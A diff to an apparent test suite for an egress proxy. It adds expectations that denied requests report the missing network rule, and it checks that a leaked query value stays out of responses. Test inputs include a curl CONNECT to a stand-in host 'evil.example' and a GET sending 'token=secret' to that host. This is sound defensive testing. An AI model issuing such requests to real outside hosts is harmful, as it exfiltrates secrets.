@@ -181,6 +181,15 @@ describe("CONNECT", () => {
       binary: "/usr/bin/curl",
       reason: "host_not_allowed",
       detail: expect.stringContaining("not allowed by any policy"),
+      rule_missing: {
+        type: "network_allow",
+        layer: "l4",
+        method: "CONNECT",
+        path: "",
+        host: "evil.example",
+        port: 443,
+        binary: "/usr/bin/curl",
+      },
     });
     expect(asked).toEqual([]);
     expect(events).toMatchObject([{ action: "denied", stage: "connect", code: "host_not_allowed", engine: "opa", severity: "medium" }]);
@@ -192,6 +201,7 @@ describe("CONNECT", () => {
     });
     const answer = await talk(port, connect("a.example", 443));
     expect(bodyOf(answer)).toMatchObject({ error: "identity_denied", reason: "no_record" });
+    expect(bodyOf(answer)["rule_missing"]).toBeUndefined();
     expect(engine.asked).toEqual([]);
     expect(events).toMatchObject([{ action: "denied", engine: "identity", code: "no_record" }]);
     expect(events[0]?.stage).toBeUndefined();
@@ -472,7 +482,7 @@ describe("absolute-form", () => {
   test("case-52: an unmatched host is denied at stage forward, the query stays out of the answer", async () => {
     const { port, events } = proxy();
     const answer = await talk(port, "GET http://evil.example/x?token=secret HTTP/1.1\r\nHost: evil.example\r\n\r\n");
-    expect(bodyOf(answer)).toMatchObject({ error: "policy_denied", method: "GET", path: "/x", port: 80 });
+    expect(bodyOf(answer)).toMatchObject({ error: "policy_denied", method: "GET", path: "/x", port: 80, rule_missing: { path: "/x" } });
     expect(answer).not.toContain("secret");
     expect(events).toMatchObject([{ stage: "forward" }]);
   });
